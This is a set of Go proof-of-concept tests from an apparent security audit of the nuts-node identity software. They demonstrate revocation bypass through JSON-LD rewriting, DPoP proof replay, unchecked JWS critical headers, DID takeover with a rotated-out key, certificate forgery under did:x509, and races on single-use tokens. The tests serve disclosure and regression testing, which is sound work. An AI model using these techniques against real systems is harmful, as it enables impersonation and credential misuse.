func TestDemoC11_RevokedCredentialAcceptedAfterEquivalentJSONLDRewrite(t *testing.T) {
	issuerDID := did.MustParseDID("did:web:example.com:iam:alice")
	kid := issuerDID.String() + "#key-1"
	auditCtx := audit.TestContext()

	// the issuer's database and signing key
	issuerDB := storage.NewTestStorageEngine(t).GetSQLDatabase()
	storage.AddDIDtoSQLDB(t, issuerDB, issuerDID)
	keyStore := nutsCrypto.NewDatabaseCryptoInstance(issuerDB)
	_, publicKey, err := keyStore.New(auditCtx, nutsCrypto.StringNamingFunc(kid))
	require.NoError(t, err)

	// verifying node: real JSON-LD canonicalization and signature verification, mocked DID/key resolution
	ctx := newMockContext(t)
	receivedRevocations := map[string]bool{} // network revocations (credential.Revocation) received by the verifying node, by credential ID
	ctx.store.EXPECT().GetRevocations(gomock.Any()).DoAndReturn(func(id ssi.URI) ([]*credential.Revocation, error) {
		if receivedRevocations[id.String()] {
			return []*credential.Revocation{{Subject: id}}, nil
		}
		return nil, ErrNotFound
	}).AnyTimes()
	ctx.didResolver.EXPECT().Resolve(issuerDID, gomock.Any()).Return(nil, nil, nil).AnyTimes()
	ctx.keyResolver.EXPECT().ResolveKeyByID(kid, gomock.Any(), resolver.NutsSigningKeyType).Return(publicKey, nil).AnyTimes()
	documentLoader := ctx.verifier.jsonldManager.DocumentLoader()

	// signs a credential exactly like vcr/issuer.buildJSONLDCredential does
	signJSONLD := func(signCtx context.Context, unsigned vc.VerifiableCredential, keyID string) (*vc.VerifiableCredential, error) {
		asMap := map[string]interface{}{}
		b, _ := json.Marshal(unsigned)
		_ = json.Unmarshal(b, &asMap)
		suite := signature.JSONWebSignature2020{ContextLoader: documentLoader, Signer: keyStore}
		signed, err := proof.NewLDProof(proof.ProofOptions{Created: unsigned.IssuanceDate}).Sign(signCtx, asMap, suite, keyID)
		if err != nil {
			return nil, err
		}
		signedJSON, _ := json.Marshal(signed)
		return vc.ParseVerifiableCredential(string(signedJSON))
	}

	// issuing node: real StatusList2021 issuer on its own database; its lists are served over HTTPS
	var issuerStatusList *revocation.StatusList2021
	ts := httptest.NewTLSServer(http.HandlerFunc(func(writer http.ResponseWriter, request *http.Request) {
		list, err := issuerStatusList.Credential(auditCtx, issuerDID, 1)
		if err != nil {
			writer.WriteHeader(http.StatusInternalServerError)
			return
		}
		data, _ := json.Marshal(list)
		writer.Header().Set("Content-Type", "application/json")
		_, _ = writer.Write(data)
	}))
	defer ts.Close()
	issuerStatusList = revocation.NewStatusList2021(issuerDB, nil, ts.URL)
	issuerStatusList.Sign = signJSONLD
	issuerStatusList.ResolveKey = func(_ did.DID, _ *time.Time, _ resolver.RelationType) (string, crypto.PublicKey, error) {
		return kid, publicKey, nil
	}

	// verifying node: real StatusList2021 verifier on another database, downloads lists from the issuer, checks signatures
	verifierStatusList := revocation.NewStatusList2021(storage.NewTestStorageEngine(t).GetSQLDatabase(), ts.Client(), "https://verifier.example.com")
	verifierStatusList.VerifySignature = ctx.verifier.VerifySignature
	ctx.verifier.credentialStatus = verifierStatusList

	// issue a credential with a status list entry
	entry, err := issuerStatusList.Entry(auditCtx, issuerDID, revocation.StatusPurposeRevocation)
	require.NoError(t, err)
	credentialID := ssi.MustParseURI(issuerDID.String() + "#6f1f7c1c-6c1c-4a28-9d1a-4d8a2a2b1c11")
	issued, err := signJSONLD(auditCtx, vc.VerifiableCredential{
		Context:           []ssi.URI{vc.VCContextV1URI(), revocation.StatusList2021ContextURI},
		ID:                &credentialID,
		Type:              []ssi.URI{vc.VerifiableCredentialTypeV1URI()},
		Issuer:            issuerDID.URI(),
		IssuanceDate:      time.Now().Add(-time.Minute).Truncate(time.Second),
		CredentialSubject: []any{map[string]any{"id": "did:web:example.com:iam:bob"}},
		CredentialStatus:  []any{entry},
	}, kid)
	require.NoError(t, err)

	// the issuer revokes the credential (sets the status list bit and re-signs the list)
	require.NoError(t, issuerStatusList.Revoke(auditCtx, credentialID, *entry))

	// sanity check: the credential as issued is now refused as revoked (signature is checked too)
	require.ErrorIs(t, ctx.verifier.Verify(*issued, true, true, nil), types.ErrRevoked, "sanity check: original credential must be revoked")

	rewrite := func(t *testing.T, fn func(credential map[string]interface{})) vc.VerifiableCredential {
		asMap := map[string]interface{}{}
		issuedJSON, _ := json.Marshal(issued)
		require.NoError(t, json.Unmarshal(issuedJSON, &asMap))
		fn(asMap)
		rewrittenJSON, _ := json.Marshal(asMap)
		rewritten, err := vc.ParseVerifiableCredential(string(rewrittenJSON))
		require.NoError(t, err)
		require.Equal(t, issued.Proof, rewritten.Proof, "proof must be untouched")
		// it is the same signed credential: the issuer's signature verifies
		require.NoError(t, ctx.verifier.VerifySignature(*rewritten, nil), "rewritten credential carries a valid issuer signature")
		return *rewritten
	}
	const ns = "https://w3id.org/vc/status-list#"

	t.Run("credentialStatus written with absolute IRIs", func(t *testing.T) {
		// The holder rewrites credentialStatus: same node, same properties, but written with absolute IRIs.
		// Nothing else is touched, in particular the issuer's proof is kept as is.
		rewritten := rewrite(t, func(credential map[string]interface{}) {
			credential["credentialStatus"] = map[string]interface{}{
				"id":                        entry.ID,
				"type":                      ns + "StatusList2021Entry",
				ns + "statusPurpose":        entry.StatusPurpose,
				ns + "statusListIndex":      entry.StatusListIndex,
				ns + "statusListCredential": map[string]interface{}{"id": entry.StatusListCredential},
			}
		})

		// PROPERTY: after the issuer set the status-list bit, every later verification fails as revoked.
		err = ctx.verifier.Verify(rewritten, true, true, nil)
		assert.ErrorIs(t, err, types.ErrRevoked, "revoked credential was accepted after an equivalent JSON-LD rewrite of credentialStatus")
	})
	t.Run("credentialStatus moved to an @included block", func(t *testing.T) {
		// The holder moves the credentialStatus statement from the top level of the document to an @included block
		// inside credentialSubject. It is still a statement about the credential (same RDF), but the Go struct has no credentialStatus.
		rewritten := rewrite(t, func(credential map[string]interface{}) {
			status := credential["credentialStatus"]
			delete(credential, "credentialStatus")
			credential["credentialSubject"] = map[string]interface{}{
				"id": "did:web:example.com:iam:bob",
				"@included": []interface{}{
					map[string]interface{}{
						"id": credentialID.String(),
						"https://www.w3.org/2018/credentials#credentialStatus": status,
					},
				},
			}
		})
		require.Nil(t, rewritten.CredentialStatus)

		// PROPERTY: after the issuer set the status-list bit, every later verification fails as revoked.
		err = ctx.verifier.Verify(rewritten, true, true, nil)
		assert.ErrorIs(t, err, types.ErrRevoked, "revoked credential was accepted after moving credentialStatus to an @included block")
	})
	t.Run("credential moved to an @included block under a root node that is not signed", func(t *testing.T) {
		// The holder wraps the credential: the whole signed credential node is moved to an @included block, and the root
		// of the document gets a relative IRI reference as id. Nodes with a relative id are dropped when converting JSON-LD to RDF,
		// so the RDF (and thus the proof) is unchanged, but everything the Go struct reads (id, credentialStatus, expirationDate, ...) is chosen by the holder.
		rewritten := rewrite(t, func(credential map[string]interface{}) {
			signedNode := map[string]interface{}{}
			for key, value := range credential {
				if key != "@context" && key != "proof" {
					signedNode[key] = value
				}
			}
			credential["id"] = "x"
			delete(credential, "credentialStatus")
			credential["credentialSubject"] = map[string]interface{}{
				"id":        "did:web:example.com:iam:bob",
				"@included": []interface{}{signedNode},
			}
		})
		require.Nil(t, rewritten.CredentialStatus)
		// on top of the status list revocation: the verifying node also received a signed network revocation for the credential
		receivedRevocations[credentialID.String()] = true
		require.ErrorIs(t, ctx.verifier.Verify(*issued, true, true, nil), types.ErrRevoked)

		// PROPERTY: after the issuer revoked the credential (signed revocation and status-list bit), every later verification fails.
		err = ctx.verifier.Verify(rewritten, true, true, nil)
		assert.Error(t, err, "revoked credential was accepted after wrapping it in a root node that is not signed")
	})
}
