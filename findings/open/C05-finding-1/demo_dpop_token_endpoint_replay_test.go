package iam

import (
	"context"
	"encoding/json"
	"net/http"
	"testing"

	"github.com/nuts-foundation/nuts-node/vcr/pe"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// TestDemo_DPoPProofReplayedAtTokenEndpoint demonstrates that the token endpoint honours the same DPoP proof (same jti)
// more than once: the jti of the proof in the DPoP header of a token request is neither looked up nor registered in the
// use-once store (useNonceOnceStore), while the resource-server side (ValidateDPoPProof) does do that.
//
// Property: "Each [...] DPoP proof id is honoured at most once: of any set of concurrent or sequential requests presenting
// the same value, at most one succeeds."
func TestDemo_DPoPProofReplayedAtTokenEndpoint(t *testing.T) {
	clientID := "did:web:example.com:iam:holder"
	verifierSubject := "verifier"
	vpStr := `{"type":"VerifiablePresentation", "id":"vp", "verifiableCredential":{"type":"VerifiableCredential", "id":"vc", "credentialSubject":{"id":"did:web:example.com:iam:holder"}}}`
	walletOwnerMapping := pe.WalletOwnerMapping{pe.WalletOwnerOrganization: pe.PresentationDefinition{InputDescriptors: []*pe.InputDescriptor{
		{Id: "1", Constraints: &pe.Constraints{Fields: []pe.Field{{Path: []string{"$.type"}}}}},
	}}}
	var submission pe.PresentationSubmission
	require.NoError(t, json.Unmarshal([]byte(`{"id":"1", "definition_id":"1", "descriptor_map":[{"id":"1","format":"ldp_vc","path":"$.verifiableCredential"}]}`), &submission))
	pexEnvelope, err := pe.ParseEnvelope([]byte(vpStr))
	require.NoError(t, err)
	newSession := func() OAuthSession {
		return OAuthSession{
			ClientID:    clientID,
			OwnSubject:  &verifierSubject,
			RedirectURI: "https://example.com/iam/holder/cb",
			Scope:       "scope",
			OpenID4VPVerifier: &PEXConsumer{
				RequiredPresentationDefinitions: walletOwnerMapping,
				Submissions:                     map[string]pe.PresentationSubmission{string(pe.WalletOwnerOrganization): submission},
				SubmittedEnvelopes:              map[string]pe.Envelope{"1": *pexEnvelope},
			},
			PKCEParams: generatePKCEParams(),
		}
	}

	// one single DPoP proof (one jti), freshly signed by the client
	dpopProof, _, _ := newSignedTestDPoP()
	tokenRequest := func(ctx *testCtx, code string) (HandleTokenRequestResponseObject, error) {
		session := newSession()
		putCodeSession(ctx, code, session)
		httpRequest := &http.Request{Header: http.Header{"Dpop": []string{dpopProof.String()}}}
		requestCtx := context.WithValue(context.Background(), httpRequestContextKey{}, httpRequest)
		return ctx.client.handleAccessTokenRequest(requestCtx, HandleTokenRequestFormdataRequestBody{
			Code:         &code,
			ClientId:     &clientID,
			CodeVerifier: &session.PKCEParams.Verifier,
		})
	}

	t.Run("authorization_code grant: same DPoP proof, two token requests", func(t *testing.T) {
		ctx := newTestClient(t)

		first, err := tokenRequest(ctx, "code-1")
		require.NoError(t, err)
		require.Equal(t, "DPoP", first.(HandleTokenRequest200JSONResponse).TokenType)

		// second token request (other authorization code), replaying the very same DPoP proof
		second, err := tokenRequest(ctx, "code-2")

		assert.Error(t, err, "the DPoP proof (jti=%s) was honoured a second time by the token endpoint", dpopProof.Token.JwtID())
		assert.Nil(t, second, "a second DPoP-bound access token was issued on a replayed DPoP proof")
	})
	t.Run("DPoP proof already honoured by ValidateDPoPProof is honoured again by the token endpoint", func(t *testing.T) {
		ctx := newTestClient(t)
		// a proof (with ath) that the client made for a resource request
		_, resourceProof, thumbprint := newSignedTestDPoP()
		validation, err := ctx.client.ValidateDPoPProof(nil, ValidateDPoPProofRequestObject{Body: &ValidateDPoPProofJSONRequestBody{
			DpopProof:  resourceProof.String(),
			Method:     "POST",
			Thumbprint: thumbprint,
			Token:      "token",
			Url:        "https://server.example.com/token",
		}})
		require.NoError(t, err)
		require.True(t, validation.(ValidateDPoPProof200JSONResponse).Valid, "first use must be valid")

		// the same proof (same jti) is now presented to the token endpoint
		session := newSession()
		code := "code-3"
		putCodeSession(ctx, code, session)
		httpRequest := &http.Request{Header: http.Header{"Dpop": []string{resourceProof.String()}}}
		requestCtx := context.WithValue(context.Background(), httpRequestContextKey{}, httpRequest)
		response, err := ctx.client.handleAccessTokenRequest(requestCtx, HandleTokenRequestFormdataRequestBody{
			Code:         &code,
			ClientId:     &clientID,
			CodeVerifier: &session.PKCEParams.Verifier,
		})

		assert.Error(t, err, "the DPoP proof (jti=%s) was honoured a second time, by the token endpoint", resourceProof.Token.JwtID())
		assert.Nil(t, response)
	})
}
