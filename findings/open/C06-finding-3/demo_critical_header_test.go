package dag

import (
	"context"
	"testing"

	"github.com/lestrrat-go/jwx/v2/jws"
	"github.com/nuts-foundation/nuts-node/crypto/hash"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// TestDemo_CriticalHeaderIsNotChecked shows that the `crit` header is never looked at (neither by ParseTransaction, nor
// by jws.Parse/jws.Verify of the JWS library): a transaction without `crit`, with a `crit` that does not list the
// mandatory Nuts headers (sigt, ver, prevs, lc), or with a `crit` that lists an extension this node does not understand
// (RFC7515 4.1.11: such a JWS is invalid) is parsed, verified and enters the DAG.
//
// Property: "a well-formed single-signature JWS using an allowed algorithm and the mandatory critical headers"
func TestDemo_CriticalHeaderIsNotChecked(t *testing.T) {
	ctx := context.Background()
	s := createState(t, NewPrevTransactionsVerifier(), NewTransactionSignatureVerifier(nil)).(*state)

	root := CreateTestTransactionWithJWK(0)
	require.NoError(t, s.Add(ctx, root, []byte{0, 0, 0, 0}))

	key := generateKey()
	payload := []byte("payload")
	sign := func(modify func(headers jws.Headers)) []byte {
		headers := makeJWSHeaders(key, "key", true) // sets crit to [sigt, ver, prevs, lc]
		require.NoError(t, headers.Set(versionHeader, 2))
		require.NoError(t, headers.Set(previousHeader, []string{root.Ref().String()}))
		require.NoError(t, headers.Set(lamportClockHeader, 1))
		modify(headers)
		data, err := jws.Sign([]byte(hash.SHA256Sum(payload).String()), jws.WithKey(headers.Algorithm(), key, jws.WithProtectedHeaders(headers)))
		require.NoError(t, err)
		return data
	}

	t.Run("sanity check: crit as created by the transaction signer is accepted", func(t *testing.T) {
		tx, err := ParseTransaction(sign(func(headers jws.Headers) {}))
		require.NoError(t, err)
		require.NoError(t, s.Add(ctx, tx, payload))
	})

	cases := map[string]func(headers jws.Headers){
		"no crit header": func(headers jws.Headers) {
			require.NoError(t, headers.Remove(jws.CriticalKey))
		},
		"empty crit header": func(headers jws.Headers) {
			require.NoError(t, headers.Set(jws.CriticalKey, []string{}))
		},
		"crit does not list lc and prevs": func(headers jws.Headers) {
			require.NoError(t, headers.Set(jws.CriticalKey, []string{signingTimeHeader, versionHeader}))
		},
		"crit lists an extension that is not understood": func(headers jws.Headers) {
			require.NoError(t, headers.Set(jws.CriticalKey, []string{signingTimeHeader, versionHeader, previousHeader, lamportClockHeader, "urn:example:must-understand"}))
			require.NoError(t, headers.Set("urn:example:must-understand", true))
		},
	}
	for name, modify := range cases {
		t.Run(name, func(t *testing.T) {
			tx, err := ParseTransaction(sign(modify))
			if err != nil {
				// refused by the parser: that is what the property demands
				return
			}
			addErr := s.Add(ctx, tx, payload)
			present, err := s.IsPresent(ctx, tx.Ref())
			require.NoError(t, err)
			assert.Error(t, addErr, "transaction was accepted")
			assert.False(t, present, "transaction entered the DAG")
		})
	}
}
