package didnuts

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"encoding/json"
	"testing"
	"time"

	"github.com/lestrrat-go/jwx/v2/jwk"
	ssi "github.com/nuts-foundation/go-did"
	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/nuts-node/crypto/hash"
	"github.com/nuts-foundation/nuts-node/network"
	"github.com/nuts-foundation/nuts-node/network/dag"
	"github.com/nuts-foundation/nuts-node/vdr/didnuts/didstore"
	"github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// demoDoc builds a well-formed did:nuts document for the given DID with exactly one (capabilityInvocation) key.
func demoDoc(t *testing.T, id did.DID, key *ecdsa.PrivateKey) (did.Document, []byte) {
	kid, err := didSubKIDNamingFunc(id)(key.Public())
	require.NoError(t, err)
	vm, err := did.NewVerificationMethod(did.MustParseDIDURL(kid), ssi.JsonWebKey2020, id, key.Public())
	require.NoError(t, err)
	doc := did.Document{Context: []interface{}{did.DIDContextV1URI()}, ID: id}
	doc.AddCapabilityInvocation(vm)
	payload, err := json.Marshal(doc)
	require.NoError(t, err)
	return doc, payload
}

func demoCapInvIDs(doc *did.Document) []string {
	var result []string
	for _, rel := range doc.CapabilityInvocation {
		result = append(result, rel.ID.String())
	}
	return result
}

// A DID was created with key K0. Its owner rotated the key: K0 was removed, K1 is the only key authorised for the DID now.
// Whoever holds K0 (e.g. because it leaked, the reason for the rotation) publishes a second "creation" of the same DID:
// a transaction that embeds K0 (`jwk` header) with a document that only lists the attacker's key.
func TestDemo_RecreationOfExistingDIDByRemovedKey(t *testing.T) {
	type testCtx struct {
		am      ambassador
		store   didstore.Store
		id      did.DID
		k0      *ecdsa.PrivateKey
		k0JWK   jwk.Key
		k1Doc   did.Document
		createR hash.SHA256Hash
		updateR hash.SHA256Hash
	}
	setup := func(t *testing.T) testCtx {
		ctrl := gomock.NewController(t)
		store := didstore.NewTestStore(t)
		networkMock := network.NewMockTransactions(ctrl)
		networkMock.EXPECT().DiscoverServices(gomock.Any()).AnyTimes()
		am := ambassador{
			networkClient: networkMock,
			didStore:      store,
			keyResolver:   dag.SourceTXKeyResolver{Resolver: Resolver{Store: store}},
			didResolver:   &Resolver{Store: store},
		}

		k0, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
		k1, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
		k0JWK, _ := jwk.FromRaw(k0.Public())
		didKID, err := DIDKIDNamingFunc(k0.Public())
		require.NoError(t, err)
		id := did.MustParseDIDURL(didKID).DID

		// 1. creation by K0 (LC=5)
		_, createPayload := demoDoc(t, id, k0)
		createTX := testTransaction{
			clock:       5,
			signingKey:  k0JWK,
			signingTime: time.Now().Add(-3 * time.Hour),
			ref:         hash.RandomHash(),
			payloadHash: hash.SHA256Sum(createPayload),
			payloadType: DIDDocumentType,
			prevs:       []hash.SHA256Hash{hash.RandomHash()},
		}
		require.NoError(t, am.callback(createTX, createPayload))

		// 2. key rotation signed by K0 (LC=6): K1 is the only key from now on
		k1Doc, rotatePayload := demoDoc(t, id, k1)
		rotateTX := testTransaction{
			clock:        6,
			signingKeyID: didKID,
			signingTime:  time.Now().Add(-2 * time.Hour),
			ref:          hash.RandomHash(),
			payloadHash:  hash.SHA256Sum(rotatePayload),
			payloadType:  DIDDocumentType,
			prevs:        []hash.SHA256Hash{createTX.ref},
		}
		require.NoError(t, am.callback(rotateTX, rotatePayload))

		current, _, err := store.Resolve(id, nil)
		require.NoError(t, err)
		require.Equal(t, demoCapInvIDs(&k1Doc), demoCapInvIDs(current), "precondition: only K1 is authorised")

		return testCtx{am: am, store: store, id: id, k0: k0, k0JWK: k0JWK, k1Doc: k1Doc, createR: createTX.ref, updateR: rotateTX.ref}
	}

	t.Run("second creation that succeeds the current version replaces it", func(t *testing.T) {
		c := setup(t)
		attackerKey, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
		_, attackerPayload := demoDoc(t, c.id, attackerKey)
		attackTX := testTransaction{
			clock:       7,
			signingKey:  c.k0JWK, // embedded key, so the ambassador handles it as a creation
			signingTime: time.Now(),
			ref:         hash.RandomHash(),
			payloadHash: hash.SHA256Sum(attackerPayload),
			payloadType: DIDDocumentType,
			prevs:       []hash.SHA256Hash{c.updateR},
		}

		err := c.am.callback(attackTX, attackerPayload)

		assert.Error(t, err, "a document for an existing DID, signed by a key that is no longer authorised, must be refused")
		current, _, rErr := c.store.Resolve(c.id, nil)
		require.NoError(t, rErr)
		assert.Equal(t, demoCapInvIDs(&c.k1Doc), demoCapInvIDs(current), "the keys authorised for the DID changed")
		_, _, rErr = c.store.Resolve(c.id, &resolver.ResolveMetadata{SourceTransaction: &attackTX.ref, AllowDeactivated: true})
		assert.ErrorIs(t, rErr, resolver.ErrNotFound, "the refused document became resolvable")
	})

	t.Run("second creation with a lower Lamport clock adds its key to every version", func(t *testing.T) {
		c := setup(t)
		attackerKey, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
		_, attackerPayload := demoDoc(t, c.id, attackerKey)
		attackTX := testTransaction{
			clock:       1, // does not refer to any transaction of the DID, sorts before the real creation
			signingKey:  c.k0JWK,
			signingTime: time.Now(),
			ref:         hash.RandomHash(),
			payloadHash: hash.SHA256Sum(attackerPayload),
			payloadType: DIDDocumentType,
			prevs:       []hash.SHA256Hash{hash.RandomHash()},
		}

		err := c.am.callback(attackTX, attackerPayload)

		assert.Error(t, err, "a document for an existing DID, signed by a key that is no longer authorised, must be refused")
		current, _, rErr := c.store.Resolve(c.id, nil)
		require.NoError(t, rErr)
		assert.Equal(t, demoCapInvIDs(&c.k1Doc), demoCapInvIDs(current), "the keys authorised for the DID changed")
	})

	t.Run("sanity: the creation transaction itself may be delivered again (reprocess)", func(t *testing.T) {
		c := setup(t)
		_, createPayload := demoDoc(t, c.id, c.k0)
		createTX := testTransaction{
			clock:       5,
			signingKey:  c.k0JWK,
			signingTime: time.Now().Add(-3 * time.Hour),
			ref:         c.createR,
			payloadHash: hash.SHA256Sum(createPayload),
			payloadType: DIDDocumentType,
		}

		require.NoError(t, c.am.callback(createTX, createPayload))

		current, _, rErr := c.store.Resolve(c.id, nil)
		require.NoError(t, rErr)
		assert.Equal(t, demoCapInvIDs(&c.k1Doc), demoCapInvIDs(current))
	})
}
