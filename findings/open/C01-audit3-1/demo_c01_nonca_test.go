package didx509

import (
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"fmt"
	"testing"
	"time"

	"github.com/lestrrat-go/jwx/v2/cert"
	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/nuts-node/pki"
	"github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// demoResolveNonCA resolves the did:x509 DID of (ca, san:otherName:<otherName>) with the given x5c chain and signing certificate.
// The CRL/denylist check (pki.Validator) is mocked and always succeeds.
func demoResolveNonCA(t *testing.T, ca *x509.Certificate, otherName string, signingCert *x509.Certificate, resolveTime *time.Time, pems ...[]byte) (*did.Document, error) {
	ctrl := gomock.NewController(t)
	validator := pki.NewMockValidator(ctrl)
	validator.EXPECT().ValidateStrict(gomock.Any()).AnyTimes().Return(nil) // (mocks CheckCRLStrict)

	chain := &cert.Chain{}
	for _, p := range pems {
		require.NoError(t, chain.Add(p))
	}
	metadata := resolver.ResolveMetadata{
		ResolveTime: resolveTime,
		JwtProtectedHeaders: map[string]interface{}{
			X509CertChainHeader:          chain,
			X509CertThumbprintS256Header: sha256Sum(signingCert.Raw),
		},
	}
	id := did.MustParseDID(fmt.Sprintf("did:x509:0:sha256:%s::san:otherName:%s", sha256Sum(ca.Raw), otherName))
	doc, _, err := NewResolver(validator).Resolve(id, &metadata)
	return doc, err
}

// TestDemoC01_EndEntityCertificateActsAsCA shows that the holder of ANY end-entity certificate under a CA
// can resolve the did:x509 DID of every other subject under that CA to a key of their own:
// the resolver follows signatures up to the CA, but does not require the certificates on the path to be CA certificates.
func TestDemoC01_EndEntityCertificateActsAsCA(t *testing.T) {
	// The CA named by the DID
	caKey, caCert, caPEM, err := buildRootCert()
	require.NoError(t, err)

	// The attacker legitimately owns an end-entity certificate (IsCA=false, keyUsage=digitalSignature) for its own identifier.
	attackerKey, attackerCert, attackerPEM, err := buildSigningCert([]string{"ATTACKER"}, caCert, caKey, "1")
	require.NoError(t, err)
	require.False(t, attackerCert.IsCA, "attacker's certificate is not a CA certificate")
	require.Zero(t, attackerCert.KeyUsage&x509.KeyUsageCertSign, "attacker's certificate may not sign certificates")

	// Sanity check: the attacker's own DID resolves.
	_, err = demoResolveNonCA(t, caCert, "ATTACKER", attackerCert, nil, caPEM, attackerPEM)
	require.NoError(t, err)

	// With the key of that end-entity certificate, the attacker signs a certificate carrying the victim's identifier.
	forgedKey, err := rsa.GenerateKey(rand.Reader, 2048)
	require.NoError(t, err)
	forgedTmpl, err := SigningCertTemplate(nil, []string{"VICTIM"})
	require.NoError(t, err)
	forgedCert, forgedPEM, err := CreateCert(forgedTmpl, attackerCert, &forgedKey.PublicKey, attackerKey)
	require.NoError(t, err)

	// No X.509 implementation accepts this path...
	roots, intermediates := x509.NewCertPool(), x509.NewCertPool()
	roots.AddCert(caCert)
	intermediates.AddCert(attackerCert)
	_, err = forgedCert.Verify(x509.VerifyOptions{Roots: roots, Intermediates: intermediates, KeyUsages: []x509.ExtKeyUsage{x509.ExtKeyUsageAny}})
	require.Error(t, err, "sanity check: crypto/x509 refuses the path")

	// ...but the did:x509 resolver resolves the victim's DID to the attacker's key.
	doc, err := demoResolveNonCA(t, caCert, "VICTIM", forgedCert, nil, caPEM, attackerPEM, forgedPEM)

	if !assert.Error(t, err, "did:x509 of the victim resolved through a certificate that was issued by an end-entity (non-CA) certificate") {
		key, _ := doc.VerificationMethod[0].PublicKey()
		assert.False(t, forgedKey.PublicKey.Equal(key), "the victim's DID document contains the attacker's key as assertionMethod")
	}
}
