package iam

import (
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"encoding/base64"
	"net/http"
	"testing"
	"time"

	"github.com/lestrrat-go/jwx/v2/jwa"
	"github.com/lestrrat-go/jwx/v2/jwt"
	"github.com/nuts-foundation/nuts-node/crypto/dpop"
	"github.com/nuts-foundation/nuts-node/storage"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// TestDemo_DPoPProofHonouredAgainAfterJtiIsForgotten demonstrates that a DPoP proof stays acceptable for longer than its
// jti is remembered: ValidateDPoPProof remembers a used jti for accessTokenValidity (15 minutes), but puts no upper bound
// on the age (iat) of a proof. Once the jti record has expired the very same proof is honoured again.
//
// Property: "Each [...] DPoP proof id is honoured at most once [...]" for "all sequential replays within and after the
// validity window".
func TestDemo_DPoPProofHonouredAgainAfterJtiIsForgotten(t *testing.T) {
	// session store on (mini)redis, so the test can let the TTL of the jti record pass
	storageEngine, redis := storage.NewTestStorageEngineRedis(t)
	client := Wrapper{storageEngine: storageEngine}

	// a DPoP proof (with ath) that was created 16 minutes ago
	keyPair, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	httpRequest, _ := http.NewRequest("GET", "https://resource.example.com/fhir/Patient", nil)
	proof := dpop.New(*httpRequest)
	require.NoError(t, proof.Token.Set(jwt.IssuedAtKey, time.Now().Add(-(accessTokenValidity+time.Minute))))
	proof.GenerateProof("token")
	raw, err := proof.Sign("kid", keyPair, jwa.ES256)
	require.NoError(t, err)
	thumbprintBytes, _ := proof.Headers.JWK().Thumbprint(crypto.SHA256)
	request := ValidateDPoPProofRequestObject{Body: &ValidateDPoPProofJSONRequestBody{
		DpopProof:  raw,
		Method:     "GET",
		Thumbprint: base64.RawURLEncoding.EncodeToString(thumbprintBytes),
		Token:      "token",
		Url:        "https://resource.example.com/fhir/Patient",
	}}
	validate := func() bool {
		response, err := client.ValidateDPoPProof(nil, request)
		require.NoError(t, err)
		return response.(ValidateDPoPProof200JSONResponse).Valid
	}

	first := validate()
	// directly after: replay is detected (if the proof was accepted in the first place)
	require.False(t, validate(), "immediate replay must be refused")

	// time passes: the record of the used jti expires
	redis.FastForward(accessTokenValidity + time.Second)

	second := validate()

	assert.False(t, first && second, "the same DPoP proof (jti=%s) was honoured twice: the used jti was forgotten while the proof is still accepted", proof.Token.JwtID())
}
