package storage

// Demonstration for the C05 known finding K1 (SessionStoreImpl.GetAndDelete = Get followed by Delete, not atomic):
// place in /repo/storage and run  go test -run TestDemoC05 ./storage/
// Of N concurrent redemptions of the same single-use value more than one succeeds.

import (
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

func TestDemoC05_GetAndDeleteHonouredMoreThanOnce(t *testing.T) {
	db := NewInMemorySessionDatabase()
	defer db.Close()
	store := db.GetStore(time.Minute, "oauth", "code")
	worst := int32(0)
	for round := 0; round < 300 && worst <= 1; round++ {
		if err := store.Put("code", "session"); err != nil {
			t.Fatal(err)
		}
		var successes int32
		var wg sync.WaitGroup
		start := make(chan struct{})
		for i := 0; i < 32; i++ {
			wg.Add(1)
			go func() {
				defer wg.Done()
				<-start
				var v string
				if err := store.GetAndDelete("code", &v); err == nil {
					atomic.AddInt32(&successes, 1)
				}
			}()
		}
		close(start)
		wg.Wait()
		if successes > worst {
			worst = successes
		}
	}
	if worst > 1 {
		t.Fatalf("single-use value honoured %d times in one round", worst)
	}
}
