package iam

// Demonstration for the C05 known findings K2/K3 (Get-then-Put registration of s2s nonces and DPoP jti is not atomic):
// place in /repo/auth/api/iam and run  go test -run TestDemoC05 ./auth/api/iam/

import (
	"sync"
	"sync/atomic"
	"testing"

	"github.com/nuts-foundation/go-did/vc"
	"github.com/stretchr/testify/require"
)

func TestDemoC05_S2SNonceAcceptedMoreThanOnce(t *testing.T) {
	ctx := newTestClient(t)
	worst := int32(0)
	for round := 0; round < 300 && worst <= 1; round++ {
		vp, err := vc.ParseVerifiablePresentation(`{"@context":["https://www.w3.org/2018/credentials/v1"],"type":"VerifiablePresentation","proof":{"type":"JsonWebSignature2020","nonce":"n` + string(rune('a'+round%26)) + string(rune('a'+round/26)) + `"}}`)
		require.NoError(t, err)
		var successes int32
		var wg sync.WaitGroup
		start := make(chan struct{})
		for i := 0; i < 32; i++ {
			wg.Add(1)
			go func() {
				defer wg.Done()
				<-start
				if err := ctx.client.validateS2SPresentationNonce(*vp); err == nil {
					atomic.AddInt32(&successes, 1)
				}
			}()
		}
		close(start)
		wg.Wait()
		if successes > worst {
			worst = successes
		}
	}
	require.LessOrEqual(t, worst, int32(1), "the same presentation nonce was accepted more than once concurrently")
}
