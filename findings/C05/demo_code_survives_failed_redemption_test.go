package iam

import (
	"testing"

	"github.com/nuts-foundation/nuts-node/auth/oauth"
	"github.com/nuts-foundation/nuts-node/storage"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

